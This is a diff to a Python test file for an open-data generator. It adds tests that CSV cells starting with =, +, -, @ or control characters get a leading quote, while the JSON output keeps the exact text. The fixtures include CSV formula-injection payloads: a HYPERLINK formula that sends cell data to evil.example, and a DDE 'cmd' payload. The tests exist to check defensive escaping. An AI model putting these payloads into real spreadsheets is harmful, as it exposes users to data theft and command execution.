@@ -7,7 +7,10 @@ import io
 import json
 from pathlib import Path
 
-from generator.open_data import TABLES, build_open_data
+import pytest
+from conftest import ACTORS, ARTICLE, ARTICLE_PATH, VALID, write_texts
+
+from generator.open_data import TABLES, build_open_data, neutralise_cell
 from generator.pipeline import generate_pages
 
 ROOT = Path(__file__).resolve().parent.parent
@@ -59,3 +62,51 @@ def test_every_id_a_record_points_at_exists() -> None:
 
 def test_open_data_is_the_same_bytes_every_time() -> None:
     assert data_files() == data_files()
+
+
+def test_csv_cells_a_spreadsheet_would_run_start_with_a_quote_and_json_keeps_the_text(tmp_path: Path) -> None:
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
+    texts = dict(VALID)
+    texts["content/actors.yml"] = (
+        ACTORS.replace("name: Alice Example", f"name: '{formula.replace(chr(39), chr(39) * 2)}'")
+        .replace("  role: Mayor", "  aliases: [Alice, '@SUM(1+1)', '-2+3']\n  role: Mayor")
+        .replace("summary: A fictional organisation.", "summary: \"+cmd|' /C calc'!A0\"")
+    )
+    texts[ARTICLE_PATH] = ARTICLE.replace("text: Alice offers", "text: =1+1 Alice offers")
+    content = write_texts(tmp_path, texts)
+
+    files = build_open_data(generate_pages(content, display_root=tmp_path).index)
+
+    actors = list(csv.DictReader(io.StringIO(files["data/actors.csv"].decode("utf-8"))))
+    assert actors[0]["name"] == "'" + formula
+    assert actors[0]["aliases"] == "Alice;'@SUM(1+1);'-2+3"
+    assert actors[1]["summary"] == "'+cmd|' /C calc'!A0"
+    claims = list(csv.DictReader(io.StringIO(files["data/claims.csv"].decode("utf-8"))))
+    assert claims[0]["text"] == "'=1+1 Alice offers to sell the harbour."
+    # Numbers are data, not formulas: a negative longitude stays a number.
+    venues = list(csv.DictReader(io.StringIO(files["data/venues.csv"].decode("utf-8"))))
+    assert (venues[0]["lat"], venues[0]["lon"]) == ("10.5", "-20.25")
+    # JSON keeps the exact text.
+    dataset = json.loads(files["data/dataset.json"])
+    assert dataset["actors"][0]["name"] == formula
+    assert dataset["actors"][0]["aliases"] == ["Alice", "@SUM(1+1)", "-2+3"]
+    assert dataset["claims"][0]["text"] == "=1+1 Alice offers to sell the harbour."
+
+
+@pytest.mark.parametrize(
+    ("text", "cell"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+1", "'+1"),
+        ("-1", "'-1"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("\0x", "'\0x"),
+        ("", ""),
+        ("Alice = Bob", "Alice = Bob"),
+        ("'=1+1", "'=1+1"),
+    ],
+)
+def test_neutralise_cell(text: str, cell: str) -> None:
+    assert neutralise_cell(text) == cell
